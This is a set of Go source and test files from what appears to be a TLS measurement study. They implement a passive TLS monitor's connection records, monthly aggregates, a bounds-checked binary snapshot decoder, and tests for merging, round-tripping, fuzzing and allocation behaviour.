		ms.AdvAESGCM128, ms.AdvAESGCM256, ms.AdvChaCha, ms.AdvCCM,
		ms.AdvTLS13,
		ms.OffersHeartbeatN, ms.HeartbeatAckN,
		ms.NULLNegotiated, ms.AnonNegotiated,
		ms.ExportNegotiated, ms.UnofferedChoice, ms.SSLv2Hellos,
	} {
		dst = appendCount(dst, v)
	}
	dst = appendCount(dst, len(ms.PosSum))
	for _, k := range sortedStringKeys(ms.PosSum) {
		dst = appendString(dst, k)
		dst = appendFloat64(dst, ms.PosSum[k])
	}
	dst = appendStrIntMap(dst, ms.PosCount)
	dst = appendCount(dst, len(ms.FPs))
	for _, fp := range sortedStringKeys(ms.FPs) {
		caps := ms.FPs[fp]
		dst = appendString(dst, fp)
		dst = append(dst, fpCapsByte(caps))
		dst = appendCount(dst, caps.Count)
	}
	// Version 2: per-month attribution maps.
	dst = appendStrIntMap(dst, ms.ByFingerprint)
	return appendStrIntMap(dst, ms.ByClientClass)
}

// --- payload decoding ---

// snapDecoder consumes the payload with sticky error handling: the first
// malformed field poisons the decoder, every later read returns zero, and
// the caller checks err once at the end. All bounds checks live here, so
// arbitrary bytes can never index out of range or allocate beyond what the
// payload can actually describe.
type snapDecoder struct {
	b   []byte
	off int
	err error
	// what names the payload kind in error messages ("snapshot" when empty).
	// The batch codec reuses the decoder for its frame payloads.
	what string
}

func (d *snapDecoder) fail(format string, args ...any) {
	if d.err == nil {
		what := d.what
		if what == "" {
			what = "snapshot"
		}
		d.err = fmt.Errorf("notary: "+what+" payload: "+format, args...)
	}
}

func (d *snapDecoder) remaining() int { return len(d.b) - d.off }

func (d *snapDecoder) uvarint() uint64 {
	if d.err != nil {
		return 0
	}
	v, n := binary.Uvarint(d.b[d.off:])
	if n <= 0 {
		d.fail("bad varint at offset %d", d.off)
		return 0
	}
	d.off += n
	return v
}

// count reads a non-negative int-sized counter. The bound tracks the
// platform int so the conversion can never wrap negative on 32-bit builds,
// and stays at half the range so decoded counters survive summing.
func (d *snapDecoder) count() int {
	v := d.uvarint()
	if v > uint64(math.MaxInt)/2 {
		d.fail("implausible count %d", v)
		return 0
	}
	return int(v)
}

// length reads a collection/string length and checks it against the bytes
// left (each encoded element needs at least min bytes).
func (d *snapDecoder) length(min int) int {
	n := d.count()
	if d.err != nil {
		return 0
	}
	if min < 1 {
		min = 1
	}
	if n > d.remaining()/min {
		d.fail("length %d exceeds remaining %d bytes", n, d.remaining())
		return 0
	}
	return n
}

func (d *snapDecoder) str() string {
	n := d.length(1)
	if d.err != nil {
		return ""
	}
	s := string(d.b[d.off : d.off+n])
	d.off += n
	return s
}

func (d *snapDecoder) byte() byte {
	if d.err != nil {
		return 0
	}
	if d.remaining() < 1 {
		d.fail("unexpected end of payload")
		return 0
	}
	b := d.b[d.off]
	d.off++
	return b
}

func (d *snapDecoder) float64() float64 {
	if d.err != nil {
		return 0
	}
	if d.remaining() < 8 {
		d.fail("unexpected end of payload in float")
		return 0
	}
	f := math.Float64frombits(binary.LittleEndian.Uint64(d.b[d.off:]))
	d.off += 8
	return f
}

func (d *snapDecoder) u16() uint16 {
	v := d.uvarint()
	if v > math.MaxUint16 {
		d.fail("code point %d exceeds uint16", v)
		return 0
	}
	return uint16(v)
}

func (d *snapDecoder) date() timeline.Date {
	y := d.count()
	m := d.count()
	day := d.count()
	if d.err != nil {
		return timeline.Date{}
	}
	if m < 1 || m > 12 {
		d.fail("bad month %d in date", m)
		return timeline.Date{}
	}
	return timeline.Date{Year: y, Month: time.Month(m), Day: day}
}

func decodeU16Map[K ~uint8 | ~uint16](d *snapDecoder, max uint64) map[K]int {
	n := d.length(2)
	m := make(map[K]int, n)
	for i := 0; i < n && d.err == nil; i++ {
		k := d.uvarint()
		if k > max {
			d.fail("map key %d out of range", k)
			return m
		}
		m[K(k)] = d.count()
	}
	return m
}

func (d *snapDecoder) strIntMap() map[string]int {
	n := d.length(2)
	m := make(map[string]int, n)
	for i := 0; i < n && d.err == nil; i++ {
		k := d.str()
		m[k] = d.count()
	}
	return m
}

func decodeSnapshotPayload(b []byte, version byte) (*Aggregate, error) {
	d := &snapDecoder{b: b}
	a := NewAggregate()
	a.generation = d.uvarint()
	nMonths := d.length(4)
	for i := 0; i < nMonths && d.err == nil; i++ {
		ms := decodeMonthStats(d, version)
		if d.err != nil {
			break
		}
		if _, dup := a.months[ms.Month]; dup {
			d.fail("duplicate month %v", ms.Month)
			break
		}
		a.months[ms.Month] = ms
	}
	nFP := d.length(4)
	for i := 0; i < nFP && d.err == nil; i++ {
		fp := d.str()
		first := d.date()
		last := d.date()
		conns := d.uvarint()
		if d.err != nil {
			break
		}
		if _, dup := a.fpFirst[fp]; dup {
			d.fail("duplicate fingerprint %q", fp)
			break
		}
		a.fpFirst[fp] = first
		a.fpLast[fp] = last
		a.fpConns[fp] = int64(conns)
	}
	if d.err != nil {
		return nil, d.err
	}
	if d.remaining() != 0 {
		return nil, fmt.Errorf("notary: snapshot payload: %d trailing bytes", d.remaining())
	}
	return a, nil
}

func decodeMonthStats(d *snapDecoder, version byte) *MonthStats {
	year := d.count()
	month := d.count()
	if d.err == nil && (month < 1 || month > 12) {
		d.fail("bad month number %d", month)
	}
	ms := newMonthStats(timeline.Month{Year: year, M: time.Month(month)})
	ms.Total = d.count()
	ms.Established = d.count()
	ms.ByVersion = decodeU16Map[registry.Version](d, math.MaxUint16)
	ms.ByClass = d.strIntMap()
	ms.ByKex = decodeU16Map[registry.KeyExchange](d, math.MaxUint8)
	ms.BySuite = decodeU16Map[uint16](d, math.MaxUint16)
	ms.ByCurve = decodeU16Map[registry.CurveID](d, math.MaxUint16)
	ms.TLS13Variant = decodeU16Map[registry.Version](d, math.MaxUint16)
	ms.ByExtension = decodeU16Map[registry.ExtensionID](d, math.MaxUint16)
	for _, p := range [...]*int{
		&ms.AdvRC4, &ms.AdvDES, &ms.Adv3DES, &ms.AdvAEAD,
		&ms.AdvExport, &ms.AdvAnon, &ms.AdvNULL,
		&ms.AdvAESGCM128, &ms.AdvAESGCM256, &ms.AdvChaCha, &ms.AdvCCM,
		&ms.AdvTLS13,
		&ms.OffersHeartbeatN, &ms.HeartbeatAckN,
		&ms.NULLNegotiated, &ms.AnonNegotiated,
		&ms.ExportNegotiated, &ms.UnofferedChoice, &ms.SSLv2Hellos,
	} {
		*p = d.count()
	}
	nPos := d.length(9)
	for i := 0; i < nPos && d.err == nil; i++ {
		k := d.str()
		ms.PosSum[k] = d.float64()
	}
	ms.PosCount = d.strIntMap()
	nFPs := d.length(3)
	for i := 0; i < nFPs && d.err == nil; i++ {
		fp := d.str()
		flags := d.byte()
		count := d.count()
		if d.err != nil {
			break
		}
		ms.FPs[fp] = fpCapsFromByte(flags, count)
	}
	if version >= 2 {
		ms.ByFingerprint = d.strIntMap()
		ms.ByClientClass = d.strIntMap()
	}
	return ms
}
