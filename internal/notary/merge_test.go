package notary

import (
	"fmt"
	"math"
	"math/rand"
	"reflect"
	"strings"
	"testing"
	"time"

	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// randomRecord builds a synthetic but internally consistent Record: the
// fingerprint, when present, is a hash of the advertised list, exactly as the
// real fingerprinting pipeline derives it — so FPCaps are a function of the
// fingerprint and partitioning cannot change them.
func randomRecord(rnd *rand.Rand, all []registry.Suite) *Record {
	n := 1 + rnd.Intn(25)
	suites := make([]uint16, 0, n)
	for i := 0; i < n; i++ {
		switch rnd.Intn(12) {
		case 0:
			suites = append(suites, registry.GREASEValues()[rnd.Intn(16)])
		case 1:
			suites = append(suites, uint16(0xf100+rnd.Intn(64)))
		default:
			suites = append(suites, all[rnd.Intn(len(all))].ID)
		}
	}
	r := &Record{
		Date: timeline.Date{
			Year:  2012 + rnd.Intn(6),
			Month: time.Month(1 + rnd.Intn(12)),
			Day:   1 + rnd.Intn(28),
		},
		ClientVersion: registry.VersionTLS12,
		ClientSuites:  suites,
		SSLv2Hello:    rnd.Intn(50) == 0,
	}
	if rnd.Intn(3) > 0 {
		r.Fingerprint = fmt.Sprintf("fp-%x", suites)
	}
	if rnd.Intn(4) > 0 {
		r.Established = true
		r.Version = registry.VersionTLS12
		r.Suite = all[rnd.Intn(len(all))].ID
		r.Curve = registry.CurveSecp256r1
		r.HeartbeatAck = rnd.Intn(10) == 0
		r.SuiteUnoffer = rnd.Intn(20) == 0
	}
	if rnd.Intn(8) == 0 {
		r.ClientSupportedVs = []registry.Version{registry.VersionTLS13}
	}
	r.OffersHeartbeat = rnd.Intn(6) == 0
	r.ClientExtensions = []registry.ExtensionID{registry.ExtensionID(rnd.Intn(4))}
	return r
}

// testClassifier is a stub notary.Classifier: fingerprints with a mapped
// class attribute there, everything else is unknown. The merge property must
// hold whether or not records classify, so the harness attributes roughly a
// third of the random fingerprints.
type testClassifier struct{ mark string }

func (c testClassifier) ClassOf(fp string) (string, bool) {
	if strings.Contains(fp, c.mark) {
		return "Class " + c.mark, true
	}
	return "", false
}

// Merging aggregates built from any partition of a record stream must equal
// the aggregate built from the whole stream — including FPDurations
// first/last dates, the PosSum/PosCount position accumulators, and the
// ByFingerprint/ByClientClass attribution maps filled by a classifier.
func TestMergeEqualsSingleStreamAdd(t *testing.T) {
	rnd := rand.New(rand.NewSource(7))
	all := registry.AllSuites()
	for trial := 0; trial < 25; trial++ {
		recs := make([]*Record, 300+rnd.Intn(300))
		for i := range recs {
			recs[i] = randomRecord(rnd, all)
		}
		// Half the trials attribute fingerprints, so the merge property is
		// pinned with ByClientClass both empty and populated.
		var cls Classifier
		if trial%2 == 0 {
			cls = testClassifier{mark: "a"}
		}

		want := NewAggregate()
		want.SetClassifier(cls)
		for _, r := range recs {
			want.Add(r)
		}

		parts := make([]*Aggregate, 1+rnd.Intn(6))
		for i := range parts {
			parts[i] = NewAggregate()
			parts[i].SetClassifier(cls)
		}
		for _, r := range recs {
			parts[rnd.Intn(len(parts))].Add(r)
		}
		got := NewAggregate()
		got.SetClassifier(cls)
		for _, p := range parts {
			got.Merge(p)
		}

		// PosSum accumulates idx/(n-1) terms, and float addition is not
		// associative, so an arbitrary within-month partition may differ in
		// the last bits. Compare it with an epsilon, everything else exactly.
		// (The sharded simulation pipeline itself shards at month granularity
		// and is therefore byte-identical — TestParallelRunAggregateIdentical
		// in internal/simulate asserts that.)
		for _, m := range want.Months() {
			wms, gms := want.Stats(m), got.Stats(m)
			if gms == nil {
				t.Fatalf("trial %d: month %v missing after merge", trial, m)
			}
			for class, wsum := range wms.PosSum {
				if diff := math.Abs(wsum - gms.PosSum[class]); diff > 1e-9 {
					t.Fatalf("trial %d: month %v PosSum[%s] off by %g", trial, m, class, diff)
				}
			}
			if len(wms.PosSum) != len(gms.PosSum) {
				t.Fatalf("trial %d: month %v PosSum keys differ", trial, m)
			}
			gms.PosSum = wms.PosSum
		}
		if !reflect.DeepEqual(want, got) {
			t.Fatalf("trial %d (%d records, %d shards): merged aggregate differs from single-stream Add",
				trial, len(recs), len(parts))
		}
		if !reflect.DeepEqual(want.FPDurations(), got.FPDurations()) {
			t.Fatalf("trial %d: FPDurations differ after merge", trial)
		}
		if cls != nil {
			attributed := 0
			for _, m := range want.Months() {
				for _, n := range want.Stats(m).ByClientClass {
					attributed += n
				}
			}
			if attributed == 0 {
				t.Fatalf("trial %d: classified trial attributed nothing — vacuous", trial)
			}
		}
	}
}

// Merge must also behave as plain addition when shards overlap months and
// fingerprints, and must leave its argument intact.
func TestMergeIsAdditiveAndNonDestructive(t *testing.T) {
	rnd := rand.New(rand.NewSource(11))
	all := registry.AllSuites()
	a, b := NewAggregate(), NewAggregate()
	rec := randomRecord(rnd, all)
	rec.Fingerprint = "fp-shared"
	for i := 0; i < 10; i++ {
		a.Add(rec)
		b.Add(rec)
	}
	snapshot := NewAggregate()
	snapshot.Merge(b)

	a.Merge(b)
	m := timeline.MonthOf(rec.Date)
	if got := a.Stats(m).Total; got != 20 {
		t.Errorf("merged Total = %d, want 20", got)
	}
	if got := a.Stats(m).FPs["fp-shared"].Count; got != 20 {
		t.Errorf("merged FP count = %d, want 20", got)
	}
	if !reflect.DeepEqual(snapshot, b) {
		t.Error("Merge modified its argument")
	}
}
