package notary

import (
	"math/rand"
	"testing"

	"tlsage/internal/registry"
)

// TestSnapshotIteration covers the frame-builder-facing API: EachMonth
// delivers every month exactly once in chronological order, NumMonths
// agrees, and Generation moves on every mutation.
func TestSnapshotIteration(t *testing.T) {
	rnd := rand.New(rand.NewSource(3))
	all := registry.AllSuites()
	a := NewAggregate()
	if a.Generation() != 0 {
		t.Fatalf("fresh aggregate generation = %d", a.Generation())
	}
	a.EachMonth(func(*MonthStats) { t.Fatal("EachMonth on empty aggregate") })

	for i := 0; i < 200; i++ {
		prev := a.Generation()
		a.Add(randomRecord(rnd, all))
		if a.Generation() != prev+1 {
			t.Fatalf("Add moved generation %d → %d", prev, a.Generation())
		}
	}

	var seen []*MonthStats
	a.EachMonth(func(ms *MonthStats) { seen = append(seen, ms) })
	if len(seen) != a.NumMonths() {
		t.Fatalf("EachMonth visited %d months, NumMonths = %d", len(seen), a.NumMonths())
	}
	months := a.Months()
	for i, ms := range seen {
		if ms.Month != months[i] {
			t.Fatalf("EachMonth order: position %d is %v, want %v", i, ms.Month, months[i])
		}
		if ms != a.Stats(ms.Month) {
			t.Fatalf("EachMonth delivered a copy for %v", ms.Month)
		}
	}

	// Merging an empty aggregate changes no content, so the generation
	// stays put; merging real records folds the donor's count in.
	prev := a.Generation()
	a.Merge(NewAggregate())
	if a.Generation() != prev {
		t.Fatalf("empty merge moved the generation (%d → %d)", prev, a.Generation())
	}
	donor := NewAggregate()
	for i := 0; i < 7; i++ {
		donor.Add(randomRecord(rnd, all))
	}
	a.Merge(donor)
	if a.Generation() != prev+7 {
		t.Fatalf("merge generation = %d, want %d", a.Generation(), prev+7)
	}
	// Equal content built by different sharding has equal generations.
	if a.Generation() != uint64(a.TotalRecords()) {
		t.Fatalf("generation %d != total records %d", a.Generation(), a.TotalRecords())
	}
}
