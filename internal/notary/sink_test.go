package notary

import (
	"bytes"
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"tlsage/internal/timeline"
)

func TestTeeFansOutInOrder(t *testing.T) {
	var order []string
	mk := func(name string) Sink {
		return SinkFunc(func(*Record) error {
			order = append(order, name)
			return nil
		})
	}
	agg := NewAggregate()
	sink := Tee(mk("a"), agg, mk("b"))
	r := sampleRecord()
	if err := sink.Observe(r); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(order, []string{"a", "b"}) {
		t.Errorf("order = %v", order)
	}
	if agg.TotalRecords() != 1 {
		t.Error("aggregate missed the teed record")
	}
	if err := sink.Close(); err != nil {
		t.Fatal(err)
	}
}

func TestTeeStopsAtFirstObserveError(t *testing.T) {
	boom := errors.New("boom")
	after := 0
	sink := Tee(
		SinkFunc(func(*Record) error { return boom }),
		SinkFunc(func(*Record) error { after++; return nil }),
	)
	if err := sink.Observe(sampleRecord()); !errors.Is(err, boom) {
		t.Fatalf("err = %v", err)
	}
	if after != 0 {
		t.Error("sink after the failing one was invoked")
	}
}

func TestTeeSingleAndNestedFlatten(t *testing.T) {
	agg := NewAggregate()
	if Tee(agg) != Sink(agg) {
		t.Error("single-sink tee should be the sink itself")
	}
	lw := NewLogWriter(&bytes.Buffer{})
	nested := Tee(Tee(agg, lw), SinkFunc(func(*Record) error { return nil }))
	m, ok := nested.(*multiSink)
	if !ok || len(m.sinks) != 3 {
		t.Fatalf("nested tee not flattened: %T", nested)
	}
}

func TestLogWriterIsSink(t *testing.T) {
	var buf bytes.Buffer
	var sink Sink = NewLogWriter(&buf)
	if err := sink.Observe(sampleRecord()); err != nil {
		t.Fatal(err)
	}
	if err := sink.Close(); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(buf.String(), "#separator") {
		t.Error("header missing")
	}
	if strings.Count(buf.String(), "\n") != 4 {
		t.Errorf("expected 3 header lines + 1 record, got %q", buf.String())
	}
}

func TestRecordResetKeepsCapacity(t *testing.T) {
	r := sampleRecord()
	suitesCap := cap(r.ClientSuites)
	ptr := &r.ClientSuites[0]
	r.Reset()
	if !reflect.DeepEqual(*r, Record{
		ClientSuites:      r.ClientSuites,
		ClientExtensions:  r.ClientExtensions,
		ClientCurves:      r.ClientCurves,
		ClientPointFmts:   r.ClientPointFmts,
		ClientSupportedVs: r.ClientSupportedVs,
	}) {
		t.Error("Reset left non-slice state behind")
	}
	if len(r.ClientSuites) != 0 || cap(r.ClientSuites) != suitesCap {
		t.Error("Reset should empty but keep slice capacity")
	}
	r.ClientSuites = append(r.ClientSuites, 1)
	if &r.ClientSuites[0] != ptr {
		t.Error("Reset reallocated the suites backing array")
	}
}

func TestRecordCloneIsDeep(t *testing.T) {
	r := sampleRecord()
	cp := r.Clone()
	if !reflect.DeepEqual(r, cp) {
		t.Fatal("clone differs")
	}
	r.ClientSuites[0] = 0xdead
	r.ClientCurves[0] = 0xbeef
	if cp.ClientSuites[0] == 0xdead || cp.ClientCurves[0] == 0xbeef {
		t.Error("clone shares slices with the original")
	}
}

func TestLeaseReleaseRoundTrip(t *testing.T) {
	r := LeaseRecord()
	if !reflect.DeepEqual(*r, Record{
		ClientSuites:      r.ClientSuites,
		ClientExtensions:  r.ClientExtensions,
		ClientCurves:      r.ClientCurves,
		ClientPointFmts:   r.ClientPointFmts,
		ClientSupportedVs: r.ClientSupportedVs,
	}) || len(r.ClientSuites) != 0 {
		t.Fatal("leased record not clean")
	}
	*r = *sampleRecord()
	ReleaseRecord(r)
	ReleaseRecord(nil) // no-op
	again := LeaseRecord()
	if again.Fingerprint != "" || again.Established || len(again.ClientSuites) != 0 {
		t.Error("pool returned a dirty record")
	}
	ReleaseRecord(again)
}

// The pooled serialization path must be allocation-free: a leased record
// filled, serialized into a reused buffer, and released allocates nothing
// in steady state. This is the regression guard for the direct-append
// AppendTSV rewrite (it used to build every line in a strings.Builder and
// copy it into dst, allocating twice per record).
func TestAppendTSVAllocFree(t *testing.T) {
	r := sampleRecord()
	buf := make([]byte, 0, 1024)
	if got := testing.AllocsPerRun(200, func() {
		buf = r.AppendTSV(buf[:0])
	}); got != 0 {
		t.Errorf("AppendTSV into a reused buffer allocates %v times per record, want 0", got)
	}
	// And it must still match what ParseTSV expects.
	line := string(r.AppendTSV(nil))
	back, err := ParseTSV(line)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(*r, back) {
		t.Fatal("direct-append TSV does not round-trip")
	}
}

// The pooled parse path: reusing one record across ParseTSVInto calls must
// not allocate beyond the per-field string handling, and far below the
// make-five-slices cost of ParseTSV. The bound is the regression guard for
// the pooled record path (ParseTSV allocates ≥6: the record's slices plus
// the fields split).
func TestParseTSVIntoAllocBound(t *testing.T) {
	line := string(sampleRecord().AppendTSV(nil))
	var rec Record
	if err := ParseTSVInto(&rec, line); err != nil {
		t.Fatal(err)
	}
	if got := testing.AllocsPerRun(200, func() {
		if err := ParseTSVInto(&rec, line); err != nil {
			t.Fatal(err)
		}
	}); got > 3 {
		t.Errorf("ParseTSVInto allocates %v times per record, want ≤3 (reused slices)", got)
	}
}

// A full pooled lease → fill-from-TSV → re-serialize → release cycle stays
// allocation-free once the pool is warm (strings aside, which the parser
// interns from the line).
func TestPooledRecordCycleAllocBound(t *testing.T) {
	line := string(sampleRecord().AppendTSV(nil))
	// Warm the pool with one fully-grown record.
	warm := LeaseRecord()
	if err := ParseTSVInto(warm, line); err != nil {
		t.Fatal(err)
	}
	ReleaseRecord(warm)
	buf := make([]byte, 0, 1024)
	if got := testing.AllocsPerRun(200, func() {
		r := LeaseRecord()
		if err := ParseTSVInto(r, line); err != nil {
			t.Fatal(err)
		}
		buf = r.AppendTSV(buf[:0])
		ReleaseRecord(r)
	}); got > 3 {
		t.Errorf("pooled cycle allocates %v times per record, want ≤3", got)
	}
}

func TestAppendDateMatchesString(t *testing.T) {
	dates := []timeline.Date{
		timeline.D(2012, time.February, 1),
		timeline.D(2018, time.December, 31),
		timeline.D(999, time.January, 9),
	}
	for _, d := range dates {
		if got := string(appendDate(nil, d)); got != d.String() {
			t.Errorf("appendDate(%v) = %q, want %q", d, got, d.String())
		}
	}
}
