package notary

import (
	"bytes"
	"math/rand"
	"reflect"
	"testing"

	"tlsage/internal/registry"
)

// buildAggregate ingests n pseudo-random records, reusing the merge tests'
// record generator so snapshots cover every counter family the study tracks.
func buildAggregate(seed int64, n int) *Aggregate {
	rnd := rand.New(rand.NewSource(seed))
	all := registry.AllSuites()
	agg := NewAggregate()
	for i := 0; i < n; i++ {
		agg.Add(randomRecord(rnd, all))
	}
	return agg
}

// TestSnapshotRoundTrip is the codec's core property: decode(encode(a)) is
// deep-equal to a — every month counter, every map, every fingerprint
// lifetime, the generation — across seeds and sizes including empty.
func TestSnapshotRoundTrip(t *testing.T) {
	for _, n := range []int{0, 1, 7, 500, 5000} {
		for seed := int64(1); seed <= 3; seed++ {
			agg := buildAggregate(seed, n)
			var buf bytes.Buffer
			if err := WriteSnapshot(&buf, agg); err != nil {
				t.Fatalf("n=%d seed=%d: WriteSnapshot: %v", n, seed, err)
			}
			got, err := ReadSnapshot(bytes.NewReader(buf.Bytes()))
			if err != nil {
				t.Fatalf("n=%d seed=%d: ReadSnapshot: %v", n, seed, err)
			}
			if !reflect.DeepEqual(got, agg) {
				t.Fatalf("n=%d seed=%d: round-tripped aggregate differs from original", n, seed)
			}
			if got.TotalRecords() != agg.TotalRecords() {
				t.Fatalf("n=%d seed=%d: records %d, want %d", n, seed, got.TotalRecords(), agg.TotalRecords())
			}
		}
	}
}

// TestSnapshotDeterministic pins the deterministic-encoding contract: equal
// content encodes to equal bytes, whichever order the content was built in.
func TestSnapshotDeterministic(t *testing.T) {
	agg := buildAggregate(42, 300)
	a := EncodeSnapshot(nil, agg)
	b := EncodeSnapshot(nil, agg)
	if !bytes.Equal(a, b) {
		t.Fatal("two encodings of the same aggregate differ")
	}
	// Round-trip once more: re-encoding the decoded copy must reproduce the
	// original bytes (decoded maps iterate in a different order; sorting in
	// the encoder must hide that).
	dec, err := DecodeSnapshot(a)
	if err != nil {
		t.Fatalf("DecodeSnapshot: %v", err)
	}
	if c := EncodeSnapshot(nil, dec); !bytes.Equal(a, c) {
		t.Fatal("re-encoding the decoded aggregate changed the bytes")
	}
}

// TestSnapshotTruncation sweeps every prefix length of a valid frame: all
// must fail cleanly (no panic, no false accept of a short frame).
func TestSnapshotTruncation(t *testing.T) {
	enc := EncodeSnapshot(nil, buildAggregate(7, 40))
	for n := 0; n < len(enc); n++ {
		if _, err := DecodeSnapshot(enc[:n]); err == nil {
			t.Fatalf("truncation to %d of %d bytes decoded without error", n, len(enc))
		}
	}
	if _, err := DecodeSnapshot(enc); err != nil {
		t.Fatalf("full frame failed to decode: %v", err)
	}
}

// TestSnapshotCorruption flips one byte at every offset of a valid frame.
// Corruption anywhere in the checksummed payload (or the frame header, or
// the CRC itself) must fail decoding; nothing may panic.
func TestSnapshotCorruption(t *testing.T) {
	enc := EncodeSnapshot(nil, buildAggregate(11, 60))
	for off := 0; off < len(enc); off++ {
		mut := append([]byte(nil), enc...)
		mut[off] ^= 0x5a
		if _, err := DecodeSnapshot(mut); err == nil {
			t.Fatalf("byte %d corrupted, decode still succeeded", off)
		}
	}
}

// TestSnapshotTrailingBytes: DecodeSnapshot rejects anything after the
// frame, so a snapshot file with appended garbage is treated as corrupt
// rather than silently half-read.
func TestSnapshotTrailingBytes(t *testing.T) {
	enc := EncodeSnapshot(nil, buildAggregate(3, 10))
	if _, err := DecodeSnapshot(append(enc, 0x00)); err == nil {
		t.Fatal("trailing byte accepted")
	}
}

// TestSnapshotVersionAndMagic: foreign files and future versions are
// rejected up front, not misparsed.
func TestSnapshotVersionAndMagic(t *testing.T) {
	enc := EncodeSnapshot(nil, buildAggregate(5, 10))
	bad := append([]byte(nil), enc...)
	bad[0] = 'X'
	if _, err := DecodeSnapshot(bad); err == nil {
		t.Fatal("bad magic accepted")
	}
	bad = append([]byte(nil), enc...)
	bad[4] = SnapshotVersion + 1
	if _, err := DecodeSnapshot(bad); err == nil {
		t.Fatal("future version accepted")
	}
}

// FuzzReadSnapshot feeds arbitrary bytes to the decoder: it must never
// panic, and anything it accepts must re-encode to a frame that decodes to
// the same aggregate (decode∘encode is a retraction).
func FuzzReadSnapshot(f *testing.F) {
	f.Add([]byte{})
	f.Add([]byte(snapshotMagic))
	f.Add(EncodeSnapshot(nil, NewAggregate()))
	f.Add(EncodeSnapshot(nil, buildAggregate(1, 5)))
	f.Add(EncodeSnapshot(nil, buildAggregate(2, 100)))
	f.Fuzz(func(t *testing.T, data []byte) {
		a, err := DecodeSnapshot(data)
		if err != nil {
			return
		}
		re := EncodeSnapshot(nil, a)
		b, err := DecodeSnapshot(re)
		if err != nil {
			t.Fatalf("re-encoded accepted snapshot failed to decode: %v", err)
		}
		if !reflect.DeepEqual(a, b) {
			t.Fatal("decode(encode(decode(data))) != decode(data)")
		}
	})
}

func BenchmarkSnapshotEncode(b *testing.B) {
	agg := buildAggregate(1, 20000)
	buf := EncodeSnapshot(nil, agg)
	b.SetBytes(int64(len(buf)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		buf = EncodeSnapshot(buf[:0], agg)
	}
}

func BenchmarkSnapshotDecode(b *testing.B) {
	enc := EncodeSnapshot(nil, buildAggregate(1, 20000))
	b.SetBytes(int64(len(enc)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := DecodeSnapshot(enc); err != nil {
			b.Fatal(err)
		}
	}
}
