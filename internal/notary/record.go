// Package notary implements the passive TLS monitor of the study: the
// equivalent of the ICSI SSL Notary's Bro-based collection pipeline. It
// turns observed hello exchanges into connection records, persists them as
// Bro-style tab-separated logs, and aggregates them into the monthly
// statistics behind every figure of the paper.
package notary

import (
	"fmt"
	"strconv"
	"strings"

	"tlsage/internal/registry"
	"tlsage/internal/timeline"
	"tlsage/internal/wire"
)

// Record is the metadata the Notary retains about one observed connection.
// Like the real Notary it keeps no client identity — only the hello
// parameters and the negotiation outcome. TruthClient (the generating
// profile) is recorded by the simulator for evaluation only and is never
// consulted by the analysis pipeline.
type Record struct {
	Date timeline.Date

	// Client Hello side.
	ClientVersion     registry.Version
	ClientSuites      []uint16
	ClientExtensions  []registry.ExtensionID
	ClientCurves      []registry.CurveID
	ClientPointFmts   []registry.ECPointFormat
	ClientSupportedVs []registry.Version
	OffersHeartbeat   bool

	// Negotiation outcome.
	Established  bool
	Version      registry.Version // canonical negotiated version when established
	Suite        uint16
	Curve        registry.CurveID
	HeartbeatAck bool
	SuiteUnoffer bool // server chose a suite the client did not offer
	AlertDesc    uint8
	UsedFallback bool
	SSLv2Hello   bool

	// Fingerprint is the §4 client fingerprint string (GREASE-stripped),
	// filled by the observation pipeline.
	Fingerprint string

	// TruthClient is ground truth for evaluation (profile name); empty in
	// purely passive deployments.
	TruthClient string
	// ServerCohort labels the responding server's cohort for evaluation.
	ServerCohort string
}

// Reset zeroes the record while keeping the capacity of its five
// client-side slices, so a pooled record is refilled without allocating.
func (r *Record) Reset() {
	suites := r.ClientSuites[:0]
	exts := r.ClientExtensions[:0]
	curves := r.ClientCurves[:0]
	pfs := r.ClientPointFmts[:0]
	svs := r.ClientSupportedVs[:0]
	*r = Record{
		ClientSuites:      suites,
		ClientExtensions:  exts,
		ClientCurves:      curves,
		ClientPointFmts:   pfs,
		ClientSupportedVs: svs,
	}
}

// Clone returns a deep copy of r that shares no slices with it. Sinks that
// retain records beyond Observe must clone them, because producers reclaim
// pooled records as soon as Observe returns.
func (r *Record) Clone() *Record {
	cp := *r
	cp.ClientSuites = append([]uint16(nil), r.ClientSuites...)
	cp.ClientExtensions = append([]registry.ExtensionID(nil), r.ClientExtensions...)
	cp.ClientCurves = append([]registry.CurveID(nil), r.ClientCurves...)
	cp.ClientPointFmts = append([]registry.ECPointFormat(nil), r.ClientPointFmts...)
	cp.ClientSupportedVs = append([]registry.Version(nil), r.ClientSupportedVs...)
	return &cp
}

// ObserveWire reconstructs the client-side fields of a Record from raw
// ClientHello record bytes, exactly as a passive monitor on the wire would.
// It returns an error for bytes the Bro analyzer would reject.
func (r *Record) ObserveWire(clientHelloRecord []byte) error {
	if wire.IsSSLv2Hello(clientHelloRecord) {
		var v2 wire.SSLv2ClientHello
		if err := v2.DecodeFromBytes(clientHelloRecord); err != nil {
			return err
		}
		r.SSLv2Hello = true
		r.ClientVersion = v2.Version
		r.ClientSuites = wire.TLSSuitesFromSSLv2(v2.CipherSpecs)
		return nil
	}
	rec, _, err := wire.DecodeRecord(clientHelloRecord)
	if err != nil {
		return err
	}
	if rec.Type != wire.ContentHandshake {
		return fmt.Errorf("notary: unexpected record type %v", rec.Type)
	}
	typ, body, _, err := wire.DecodeHandshake(rec.Payload)
	if err != nil {
		return err
	}
	if typ != wire.TypeClientHello {
		return fmt.Errorf("notary: unexpected handshake type %d", typ)
	}
	var ch wire.ClientHello
	if err := ch.DecodeFromBytes(body); err != nil {
		return err
	}
	r.FromClientHello(&ch)
	return nil
}

// FromClientHello fills the client-side fields from a parsed hello. The
// record's existing slice capacity is reused, so feeding pooled records
// through here is allocation-free in steady state.
func (r *Record) FromClientHello(ch *wire.ClientHello) {
	r.ClientVersion = ch.Version
	r.ClientSuites = append(r.ClientSuites[:0], ch.CipherSuites...)
	r.ClientExtensions = ch.AppendExtensionIDs(r.ClientExtensions[:0])
	r.ClientCurves = ch.AppendSupportedGroups(r.ClientCurves[:0])
	r.ClientPointFmts = ch.AppendECPointFormats(r.ClientPointFmts[:0])
	r.ClientSupportedVs = ch.AppendSupportedVersions(r.ClientSupportedVs[:0])
	r.OffersHeartbeat = ch.OffersHeartbeat()
}

